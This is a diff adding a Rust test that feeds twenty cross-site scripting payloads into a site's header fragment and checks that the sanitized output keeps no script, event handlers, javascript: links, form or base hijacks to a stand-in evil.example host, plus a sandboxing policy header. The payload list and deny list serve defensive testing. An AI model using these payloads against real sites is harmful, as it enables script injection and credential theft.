@@ -1,0 +1,81 @@
+//! What comes back as header and footer: markup that shows, and none that runs.
+
+use super::{HEADER, from};
+use crate::support::Database;
+use crate::wire::service::{Does, Service};
+
+const HOSTILE: [&str; 20] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<script/src=data:,alert(1)>",
+    "<<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x:x onerror\n=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg/onload=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=//evil.example></object><embed src=//evil.example>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</form>",
+    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<template><script>alert(1)</script></template>",
+    "<div style='position:fixed;inset:0'>x</div>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+];
+
+/// What must be nowhere in a fragment, as markup.
+const RUNS: [&str; 16] = [
+    "<script",
+    "<svg",
+    "<math",
+    "<iframe",
+    "<object",
+    "<embed",
+    "<form",
+    "<input",
+    "<base",
+    "<meta",
+    "<link",
+    "<template",
+    "href=\"javascript",
+    "href=\" javascript",
+    "formaction=",
+    " style=",
+];
+
+both!(hostile_markup_shows_and_does_not_run);
+// security: HD-4
+async fn hostile_markup_shows_and_does_not_run(db: Database) {
+    let service = Service::start(Does::Closes).await;
+    let site = db.site_with(from(&service)).await;
+    let browser = site.browser();
+    for hostile in HOSTILE {
+        let html =
+            format!("<header class=\"top\"><a href=\"/episodes\">Episodes</a>{hostile}</header>");
+        service.now(Does::shows(&html));
+        // Beyond the day for which an old one is shown.
+        site.wait("2d");
+        let answer = browser.get(HEADER).await;
+        assert_eq!(answer.status, 200);
+        let text = answer.text().to_lowercase();
+        assert!(
+            text.starts_with("<header class=\"top\"><a href=\"/episodes\""),
+            "{text}"
+        );
+        for runs in RUNS {
+            assert!(!text.contains(runs), "{hostile} left {runs} in {text}");
+        }
+        let handlers = text.split('<').filter(|tag| {
+            let tag = tag.split('>').next().unwrap_or_default();
+            tag.contains(" onerror") || tag.contains(" onload")
+        });
+        assert_eq!(handlers.count(), 0, "{hostile} left a handler in {text}");
+        // Opened as a document of its own it runs nothing either.
+        let policy = answer.header("content-security-policy").unwrap();
+        assert!(policy.contains("sandbox") && policy.contains("default-src 'none'"));
+    }
+}
